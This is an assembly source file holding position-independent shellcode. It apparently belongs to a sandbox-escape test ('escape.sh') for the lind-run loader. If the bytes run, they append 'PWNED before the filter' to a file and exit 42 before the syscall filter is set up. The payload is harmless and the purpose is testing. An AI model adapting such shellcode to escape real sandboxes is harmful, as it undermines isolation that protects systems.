/* Position-independent bytes for escape.sh's crafted ELF: if lind-run's
 * loader ever runs them (they replace its own code when a segment is
 * mapped over it), they append to the path that escape.sh places right
 * after them (label path) and exit 42, before any filter exists. */
	.text
	.globl payload
payload:
	mov $2, %eax                /* open(path, O_WRONLY|O_APPEND) */
	lea path(%rip), %rdi
	mov $0x401, %esi
	xor %edx, %edx
	syscall
	mov %rax, %rdi              /* write(fd, msg, len) */
	mov $1, %eax
	lea msg(%rip), %rsi
	mov $msgend - msg, %edx
	syscall
	mov $231, %eax              /* exit_group(42) */
	mov $42, %edi
	syscall
	hlt
msg:	.ascii "PWNED before the filter\n"
msgend:
path:
	.section .note.GNU-stack, "", @progbits
